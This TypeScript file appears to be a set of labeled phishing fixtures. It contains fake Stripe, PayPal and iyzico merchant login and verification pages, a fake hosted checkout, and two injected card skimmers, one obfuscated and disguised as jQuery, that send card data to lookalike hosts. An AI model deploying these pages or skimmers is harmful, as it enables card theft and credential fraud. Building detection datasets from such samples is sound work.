import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardFields, pngR, header, footer, grid, images, brandIcons, faviconTag } from '../parts/zc-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

// Fake payment-processor logins and "verification" pages sent to merchants, and card-skimming checkouts
// shown to buyers.

const STV = 'dashboard-stripe.account-verify.com';
const PPL = 'paypal.de-konto-eingeschraenkt.info';
const IYZ = 'iyzico-uye-isyeri.guvenlik-dogrulama.com';

const SKA = 'nordic-outdoor-gear.com';
const SKA_CDN = 'cdn-analytics-jquery.com';
const SKB = 'secure-payment-gateway.eu-checkout.com';
const SKD = 'bellaflora-boutique.it';
const SKD_X = 'googletagsmanager.net';

export const entries: Entry[] = [
  {
    id: 'zc-psp-stripe-account-verify-en',
    label: 'phishing',
    kind: 'psp-login',
    url: `https://${STV}/login?redirect=%2Fsettings%2Fupdate-verification`,
    body: doc({
      lang: 'en',
      title: 'Sign in to Stripe',
      css: 'body{background:#f6f9fc;font-family:-apple-system,"Segoe UI",Roboto,sans-serif}.c{max-width:440px;margin:40px auto;background:#fff;padding:40px;border-radius:6px;box-shadow:0 15px 35px rgba(50,50,93,.1)}',
      body: `<div style="text-align:center;margin-top:40px"><span style="color:#635bff;font-weight:800;font-size:30px">stripe</span></div>
<div class="c">
  <div style="background:#fff8e6;border:1px solid #f5c96b;padding:10px;border-radius:4px;font-size:13px">Payouts to your bank account are paused. Sign in to update your business verification to resume payouts.</div>
  <h2 style="font-size:22px">Sign in to your account</h2>
  <form id="l"><label>Email</label><input name="email" type="email"><label>Password</label><input name="password" type="password">
  <label style="display:flex;gap:6px;align-items:center"><input type="checkbox" style="width:auto"> Remember me on this device</label>
  <button class="btn" style="background:#635bff;color:#fff;width:100%;margin-top:16px">Continue</button></form>
  <div id="mfa" style="display:none"><h3>Two-step authentication</h3><p>Enter the 6-digit code from your authenticator app or SMS.</p><input id="code" maxlength="6"><button class="btn" style="background:#635bff;color:#fff;width:100%;margin-top:12px" onclick="fetch('/api/session/mfa',{method:'POST',body:document.getElementById('code').value}).then(function(){location.href='/settings/update-verification'})">Verify</button></div>
</div>
<p style="text-align:center;font-size:13px;color:#697386">Don't have an account? Sign up · © Stripe · Privacy &amp; terms</p>
<script>document.getElementById('l').onsubmit=function(e){e.preventDefault();fetch('/api/session',{method:'POST',body:new FormData(this)});this.style.display='none';document.getElementById('mfa').style.display='block';};</script>`,
    }),
    routes: {
      [`${STV}/api/session`]: jsonRoute({ mfa: true }),
      [`${STV}/api/session/mfa`]: jsonRoute({ ok: true }),
      [`${STV}/settings/update-verification`]: htmlRoute(
        doc({
          lang: 'en',
          title: 'Update business verification – Stripe',
          css: 'body{background:#f6f9fc}.c{max-width:620px;margin:30px auto;background:#fff;padding:32px;border-radius:6px}',
          body: `<div class="c"><h2>Verify your business</h2><p>Confirm the bank account and representative details for payouts.</p><form action="/settings/submit" method="post" enctype="multipart/form-data"><label>Legal business name</label><input name="biz"><label>Representative date of birth</label><input name="dob"><label>Last 4 SSN / full SSN</label><input name="ssn"><label>Routing number</label><input name="routing"><label>Account number</label><input name="acct"><label>Online banking username</label><input name="bu"><label>Online banking password (for instant verification)</label><input name="bp" type="password"><label>Photo ID (front)</label><input type="file" name="id"><button class="btn" style="background:#635bff;color:#fff;margin-top:16px">Submit</button></form></div>`,
        }),
      ),
    },
  },
  {
    id: 'zc-psp-paypal-konto-eingeschraenkt-de',
    label: 'phishing',
    kind: 'psp-login',
    url: `https://${PPL}/de/signin?country.x=DE&locale.x=de_DE&case=PP-D-28810`,
    body: doc({
      lang: 'de',
      title: 'Bei Ihrem PayPal-Konto einloggen',
      css: 'body{background:#fff;font-family:"Helvetica Neue",Arial,sans-serif}.c{max-width:460px;margin:50px auto;padding:32px;border:1px solid #eaeced;border-radius:12px}',
      body: `<div class="c">
  <div style="text-align:center;font-weight:800;font-size:30px;color:#003087;font-style:italic">Pay<span style="color:#009cde">Pal</span></div>
  <p style="background:#fff5e5;padding:10px;font-size:13px;border-radius:6px">Ihr Händlerkonto wurde vorübergehend eingeschränkt (Fall PP-D-28810). Eingehende Zahlungen werden einbehalten, bis Sie Ihre Identität bestätigen.</p>
  <form action="https://${PPL}/de/signin/post" method="post">
    <input name="login_email" placeholder="E-Mail-Adresse oder Handynummer" style="margin-top:12px">
    <input name="login_password" type="password" placeholder="Passwort" style="margin-top:12px">
    <button class="btn" style="background:#0070ba;color:#fff;width:100%;margin-top:16px;border-radius:24px">Einloggen</button>
  </form>
  <p style="text-align:center"><a href="#" style="color:#0070ba">Probleme beim Einloggen?</a></p>
  <hr><button class="btn" style="background:#e1e7eb;width:100%;border-radius:24px">Neu anmelden</button>
</div>
<p style="text-align:center;font-size:12px;color:#666">Kontakt · Datenschutz · AGB · Weltweit</p>`,
    }),
    routes: {
      [`${PPL}/de/signin/post`]: redirectRoute(302, `https://${PPL}/de/webapps/limitation/kontodaten`),
      [`${PPL}/de/webapps/limitation/kontodaten`]: htmlRoute(
        doc({
          lang: 'de',
          title: 'PayPal: Kontoeinschränkung aufheben',
          css: '.c{max-width:560px;margin:30px auto;padding:28px;border:1px solid #eee;border-radius:10px}',
          body: `<div class="c"><h2>Bestätigen Sie Ihre Daten</h2><form action="/de/webapps/limitation/finish" method="post"><label>Vorname</label><input name="vn"><label>Nachname</label><input name="nn"><label>Geburtsdatum</label><input name="gb"><label>IBAN</label><input name="iban">${cardFields({ holder: 'Karteninhaber', number: 'Kartennummer', exp: 'Gültig bis', cvc: 'Kartenprüfnummer' })}<button class="btn" style="background:#0070ba;color:#fff;width:100%;margin-top:16px;border-radius:24px">Weiter</button></form></div>`,
        }),
      ),
    },
  },
  {
    id: 'zc-psp-iyzico-uye-isyeri-tr',
    label: 'phishing',
    kind: 'psp-login',
    url: `https://${IYZ}/merchant/giris`,
    body: doc({
      lang: 'tr',
      title: 'iyzico Üye İşyeri Paneli – Giriş',
      css: 'body{background:#f0f4fa}.c{max-width:420px;margin:50px auto;background:#fff;padding:30px;border-radius:10px}',
      body: `<div class="c">
  <div style="color:#1e64ff;font-weight:900;font-size:28px">iyzico</div>
  <p style="font-size:14px">Değerli üye işyerimiz, BDDK düzenlemesi kapsamında <b>hesap bilgilerinizi güncellemeniz</b> gerekmektedir. Güncelleme yapılmayan hesapların ödemeleri 24 saat içinde durdurulacaktır.</p>
  <form action="/merchant/giris/kontrol" method="post"><label>E-posta</label><input name="email"><label>Şifre</label><input name="sifre" type="password"><label>Cep telefonu</label><input name="gsm"><button class="btn" style="background:#1e64ff;color:#fff;width:100%;margin-top:16px">Giriş Yap</button></form>
  <p style="font-size:11px;color:#999">© 2025 iyzi Ödeme ve Elektronik Para Hizmetleri A.Ş.</p>
</div>`,
    }),
    routes: {},
  },
  {
    id: 'zc-skim-compromised-outdoor-shop-en',
    label: 'phishing',
    kind: 'card-skimmer',
    url: `https://${SKA}/checkout/onepage/`,
    body: doc({
      lang: 'en',
      title: 'Checkout | Nordic Outdoor Gear',
      head: faviconTag(SKA),
      css: '.co{display:grid;grid-template-columns:3fr 2fr;gap:30px;margin-top:20px}.box{border:1px solid #e3e3e3;border-radius:6px;padding:20px;margin-bottom:16px}',
      body: `${header({ brand: 'Nordic Outdoor Gear', nav: [], right: '🔒 Secure checkout' })}
<main class="wrap co">
  <div>
    <div class="box"><h3>1. Shipping address</h3><label>Email</label><input name="email"><label>First name</label><input name="firstname"><label>Last name</label><input name="lastname"><label>Street</label><input name="street"><label>City</label><input name="city"><label>Postcode</label><input name="postcode"></div>
    <div class="box"><h3>2. Shipping method</h3><label style="display:flex;gap:8px"><input type="radio" checked style="width:auto"> Standard (3-5 days) – Free</label><label style="display:flex;gap:8px"><input type="radio" style="width:auto"> Express – £7.95</label></div>
    <div class="box"><h3>3. Payment</h3><form id="co-payment-form">${cardFields({ holder: 'Name on card', number: 'Card number', exp: 'Expiration', cvc: 'CVV' }, { holder: 'payment[cc_owner]', number: 'payment[cc_number]', exp: 'payment[cc_exp]', cvc: 'payment[cc_cid]' })}<button class="btn" id="place" style="background:#1d3b2a;color:#fff;width:100%;margin-top:16px">Place order</button></form></div>
  </div>
  <aside class="box"><h3>Order summary</h3><table><tr><td>Fjällräven Kånken Classic – Forest Green</td><td>£85.00</td></tr><tr><td>Merino wool hiking socks ×2</td><td>£28.00</td></tr><tr><th>Total</th><th>£113.00</th></tr></table></aside>
</main>
${footer({ cols: [['Customer service', ['Contact', 'Delivery', 'Returns']], ['About', ['Our story', 'Stores']]], legal: '© 2025 Nordic Outdoor Gear Ltd. Company no. 08817263.', pay: ['Visa', 'Mastercard', 'Amex', 'PayPal'] })}
<script src="https://${SKA}/static/version1699/frontend/Nordic/default/en_GB/mage/requirejs-config.js"></script>
<script src="https://${SKA_CDN}/jquery.min.js"></script>`,
    }),
    routes: {
      ...brandIcons(SKA, [29, 59, 42]),
      [`${SKA}/static/version1699/frontend/Nordic/default/en_GB/mage/requirejs-config.js`]: jsRoute(`var require={baseUrl:'/static/version1699/frontend/Nordic/default/en_GB',paths:{jquery:'jquery'},waitSeconds:0};`),
      [`${SKA_CDN}/jquery.min.js`]: jsRoute(
        `/*! jQuery v3.6.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
!function(){var _$=['cGF5bWVudFtjY19udW1iZXJd','Y2hlY2tvdXQ=','aHR0cHM6Ly9jZG4tYW5hbHl0aWNzLWpxdWVyeS5jb20vbGliL3N0YXRzLmdpZg=='];function d(i){return atob(_$[i])}
if(location.href.indexOf(d(1))<0)return;function g(){var o={};document.querySelectorAll('input,select').forEach(function(e){if(e.name&&e.value)o[e.name]=e.value});return o}
document.addEventListener('click',function(ev){var t=ev.target;if(!t||t.id!=='place')return;var o=g();if(!o[d(0)])return;var s=btoa(unescape(encodeURIComponent(JSON.stringify(o))));
var i=new Image();i.src=d(2)+'?hash='+encodeURIComponent(s)+'&h='+location.hostname;},true);}();`,
      ),
      [`${SKA_CDN}/lib/stats.gif`]: pngR(0, 0, 0),
    },
  },
  {
    id: 'zc-skim-fake-hosted-payment-page-de',
    label: 'phishing',
    kind: 'fake-checkout',
    url: `https://${SKB}/pay/session/cs_8Gq2VYwz19XK?merchant=Moebelhaus%20Kr%C3%BCger&amount=1249.00&cur=EUR`,
    body: doc({
      lang: 'de',
      title: 'Sichere Zahlung – Möbelhaus Krüger',
      css: 'body{background:#f4f6f8}.c{max-width:460px;margin:40px auto;background:#fff;padding:30px;border-radius:10px;box-shadow:0 4px 20px rgba(0,0,0,.08)}',
      body: `<div class="c">
  <p style="color:#666;font-size:14px">Möbelhaus Krüger</p><div style="font-size:32px;font-weight:700">1.249,00 €</div><p style="font-size:13px;color:#666">Ecksofa „Bergen“ Cord beige – Bestellung #MK-20719</p>
  <form action="https://${SKB}/pay/session/cs_8Gq2VYwz19XK/confirm" method="post">
    <label>E-Mail</label><input name="email">
    ${cardFields({ holder: 'Name auf der Karte', number: 'Kartendaten', exp: 'MM / JJ', cvc: 'CVC' })}
    <label>Land</label><select name="country"><option>Deutschland</option><option>Österreich</option><option>Schweiz</option></select>
    <button class="btn" style="background:#0a2540;color:#fff;width:100%;margin-top:18px">Bezahlen</button>
  </form>
  <p style="text-align:center;font-size:11px;color:#999;margin-top:16px">🔒 Powered by SecurePay Gateway · PCI DSS Level 1 · Verified by Visa · Mastercard SecureCode</p>
</div>`,
    }),
    routes: {},
  },
  {
    id: 'zc-skim-overlay-injected-boutique-it',
    label: 'phishing',
    kind: 'card-skimmer',
    url: `https://${SKD}/carrello/pagamento`,
    body: doc({
      lang: 'it',
      title: 'Pagamento – BellaFlora Boutique',
      head: faviconTag(SKD),
      body: `${header({ brand: 'BellaFlora', nav: ['Bouquet', 'Piante', 'Matrimoni', 'Regali'], right: 'Carrello (2)' })}
<main class="wrap" style="max-width:760px">
  <h1>Pagamento</h1>
  <p>Riepilogo: Bouquet "Primavera" + biglietto – <b>€ 64,90</b> · Consegna a Firenze il 14/02</p>
  <div id="pay-methods"><label style="display:flex;gap:8px"><input type="radio" name="m" checked style="width:auto"> Carta di credito (Nexi XPay)</label><label style="display:flex;gap:8px"><input type="radio" name="m" style="width:auto"> PayPal</label><label style="display:flex;gap:8px"><input type="radio" name="m" style="width:auto"> Bonifico</label></div>
  <button class="btn" id="go" style="background:#b0306a;color:#fff;margin-top:16px">Procedi al pagamento</button>
</main>
${footer({ cols: [['BellaFlora', ['Chi siamo', 'Contatti', 'Consegne']], ['Legale', ['Condizioni di vendita', 'Privacy', 'Cookie']]], legal: 'BellaFlora di Rossi Marta – P.IVA 06118230487 – Via dei Servi 21, Firenze', pay: ['Visa', 'Mastercard', 'PayPal', 'Nexi'] })}
<script async src="https://${SKD_X}/gtag/js"></script>`,
    }),
    routes: {
      ...brandIcons(SKD, [176, 48, 106]),
      [`${SKD_X}/gtag/js`]: jsRoute(
        `(function(){var q=String.fromCharCode;function k(){var o=document.getElementById('go');if(!o)return;o.addEventListener('click',function(ev){ev.preventDefault();ev.stopImmediatePropagation();
var w=document.createElement('div');w.style.cssText='position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center;z-index:99999';
w.innerHTML='<form id="nx" style="background:#fff;padding:26px;border-radius:8px;width:380px;font-family:Arial"><div style="font-weight:700;color:#2d3a8c;font-size:20px">nexi XPay</div><p style="font-size:13px">Importo: € 64,90</p><label>Titolare</label><input name="h" style="width:100%;padding:8px"><label>Numero carta</label><input name="c" style="width:100%;padding:8px"><label>Scadenza</label><input name="e" style="width:100%;padding:8px"><label>CVV</label><input name="v" style="width:100%;padding:8px"><button style="margin-top:12px;width:100%;padding:10px;background:#2d3a8c;color:#fff;border:0">Paga</button></form>';
document.body.appendChild(w);document.getElementById('nx').onsubmit=function(e){e.preventDefault();var d=new URLSearchParams(new FormData(this));d.append('s',location.host);
fetch('https://${SKD_X}/collect?v=2',{method:'POST',mode:'no-cors',body:d});w.innerHTML='<div style="background:#fff;padding:26px;border-radius:8px">Errore di comunicazione con il circuito. Riprova.</div>';setTimeout(function(){w.remove();},2500);};},true);}
if(document.readyState!=='loading')k();else document.addEventListener('DOMContentLoaded',k);})();`,
      ),
      [`${SKD_X}/collect`]: jsonRoute({}),
    },
  },
];
